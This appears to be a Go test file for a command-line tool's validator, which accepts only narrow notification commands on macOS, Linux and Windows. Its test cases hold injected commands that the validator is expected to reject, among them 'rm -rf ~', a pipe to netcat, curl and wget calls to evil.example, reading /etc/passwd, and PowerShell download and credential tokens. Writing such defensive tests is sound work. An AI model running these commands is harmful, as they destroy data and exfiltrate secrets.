package platform_test

import (
	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"

	"github.com/chime-cli/chime/internal/platform"
)

var _ = Describe("ValidateCommand", func() {
	Context("chained commands on any platform", func() {
		DescribeTable("rejects an injected second command",
			func(command string) {
				Expect(platform.ValidateCommand(command, "linux")).To(BeFalse())
			},
			Entry("semicolon", `notify-send "hi"; rm -rf ~`),
			Entry("pipe", `notify-send "hi" | nc attacker 9999`),
			Entry("and list", `notify-send "hi" && curl evil.example`),
			Entry("or list", `notify-send "hi" || wget evil.example`),
		)
	})

	Context("darwin", func() {
		It("accepts a plain display notification command", func() {
			command := `osascript -e "display notification \"Task completed\" with title \"Claude Code\""`
			Expect(platform.ValidateCommand(command, "darwin")).To(BeTrue())
		})

		It("accepts a notification with a sound clause", func() {
			command := `osascript -e "display notification \"Task completed\" with title \"Claude Code\" sound name \"Glass\""`
			Expect(platform.ValidateCommand(command, "darwin")).To(BeTrue())
		})

		It("rejects a command without the osascript prefix", func() {
			Expect(platform.ValidateCommand(`echo "hi"`, "darwin")).To(BeFalse())
		})

		DescribeTable("rejects AppleScript system-control keywords",
			func(fragment string) {
				command := `osascript -e "display notification \"` + fragment + `\""`
				Expect(platform.ValidateCommand(command, "darwin")).To(BeFalse())
			},
			Entry("do shell script", "do shell script rm"),
			Entry("tell application", "tell application Finder"),
			Entry("system events", "System Events activate"),
			Entry("keystroke", "keystroke password"),
		)
	})

	Context("linux", func() {
		It("accepts a single notify-send command", func() {
			command := `notify-send -u normal "Claude Code" "Task completed"`
			Expect(platform.ValidateCommand(command, "linux")).To(BeTrue())
		})

		It("rejects command substitution", func() {
			command := `notify-send "$(cat /etc/passwd)"`
			Expect(platform.ValidateCommand(command, "linux")).To(BeFalse())
		})

		It("rejects a subshell", func() {
			command := `(notify-send hi)`
			Expect(platform.ValidateCommand(command, "linux")).To(BeFalse())
		})

		It("rejects unparseable shell syntax", func() {
			Expect(platform.ValidateCommand(`notify-send "unterminated`, "linux")).To(BeFalse())
		})
	})

	Context("windows", func() {
		validCommand := `powershell -NoProfile -Command "Add-Type -AssemblyName System.Windows.Forms,System.Drawing; ` +
			`$icon = New-Object System.Windows.Forms.NotifyIcon; ` +
			`$icon.Icon = [System.Drawing.SystemIcons]::Information; ` +
			`$icon.Visible = $true; ` +
			`$icon.ShowBalloonTip(5000, 'Claude Code', 'Task completed', [System.Windows.Forms.ToolTipIcon]::Info)"`

		It("accepts the balloon tip command shape", func() {
			Expect(platform.ValidateCommand(validCommand, "windows")).To(BeTrue())
		})

		It("rejects a command without the powershell prefix", func() {
			Expect(platform.ValidateCommand(`pwsh -Command "hi"`, "windows")).To(BeFalse())
		})

		DescribeTable("rejects execution and download tokens",
			func(fragment string) {
				command := `powershell -NoProfile -Command "` + fragment + `"`
				Expect(platform.ValidateCommand(command, "windows")).To(BeFalse())
			},
			Entry("Invoke-Expression", `Invoke-Expression $payload`),
			Entry("iex alias", `iex $payload`),
			Entry("Invoke-WebRequest", `Invoke-WebRequest evil.example`),
			Entry("DownloadString", `$c.DownloadString('http://evil')`),
			Entry("Start-Process", `Start-Process calc.exe`),
			Entry("Get-Credential", `Get-Credential`),
			Entry("environment access", `$x = $env:SECRET`),
		)

		It("rejects New-Object of any other type", func() {
			command := `powershell -NoProfile -Command "$c = New-Object System.Net.WebClient"`
			Expect(platform.ValidateCommand(command, "windows")).To(BeFalse())
		})
	})

	Context("unknown platform", func() {
		It("rejects everything", func() {
			Expect(platform.ValidateCommand(`notify-send hi`, "plan9")).To(BeFalse())
		})
	})
})
